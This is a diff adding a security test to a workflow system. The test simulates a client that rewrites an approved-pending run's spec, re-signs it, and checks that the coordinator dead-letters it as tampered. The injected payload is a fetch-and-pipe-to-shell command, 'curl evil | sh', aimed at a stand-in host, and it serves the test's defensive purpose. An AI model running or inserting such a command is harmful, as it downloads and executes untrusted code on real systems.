@@ -541,6 +541,34 @@ def test_forged_expired_replayed_and_re_pointed_approvals_are_refused(fleet: Fle
         record(f"{what} approval", "approver", "held", "refused: approval.refused")
 
 
+def test_a_client_rewriting_a_launched_runs_spec_runs_none_of_it(fleet: Fleet) -> None:
+    """The client's user may write runs (it submits them), and holds the client's secret: it rewrites a
+    run waiting at its gate (cmdc's payload), signs the submit again and moves the version, so that a
+    coordinator reads the run again. Read again, the run no longer matches its signed file under
+    `--require-signed`: nothing of it runs on, and its inputs are dead-lettered with why."""
+    keys = fleet.deployment.keys
+    with fleet.client("client") as client:
+        wf_id = client.submit(fleet.files["gated"])
+    approver = fleet.client("approver")
+    request = until(lambda: next((r for r in approver.approvals() if r["workflow"] == wf_id), None), fleet.procs)
+    raw = fleet.deployment.client("client")
+    meta = {k.decode(): v.decode() for k, v in raw.hgetall(keys.wf(wf_id)).items()}
+    spec = json.loads(meta["spec"])
+    spec["tasks"]["Ship"]["payload"] = {"run": "curl evil | sh"}
+    fields = {**meta, "spec": json.dumps(spec), "params": json.loads(meta.get("params") or "{}")}
+    secret = fleet.deployment.env("client")["PHIBROKER_CLIENT_SECRET"].encode()
+    signature = wire.submit_signature(secret, wf_id, meta["submitter"], fields)
+    moved = int(meta["version"]) + 1  # so a coordinator holding the run reads it again
+    raw.hset(keys.wf(wf_id), mapping={"spec": fields["spec"], "submit_sig": signature, "version": moved})
+    seen = len(fleet.dead_letters())
+    approver.decide(request["id"], "approve", key=fleet.stryk, wait=0.5)
+    (reason,) = reasons_since(fleet, seen, 1)
+    assert "tampered" in reason, reason
+    assert not [row for row in fleet.ran(wf_id) if row["task"] == "Ship"], fleet.ran(wf_id)
+    assert fleet.alive(), fleet.procs.output()
+    record("rewrite a launched run's spec, signed again", "client", "worked: Ship ran it", "dead-lettered: tampered")
+
+
 def test_unsigned_and_tampered_workflow_files_are_refused(fleet: Fleet, tmp_path: Path) -> None:
     tampered = tmp_path / "team.yaml"
     shutil.copy(fleet.files["team"], tampered)
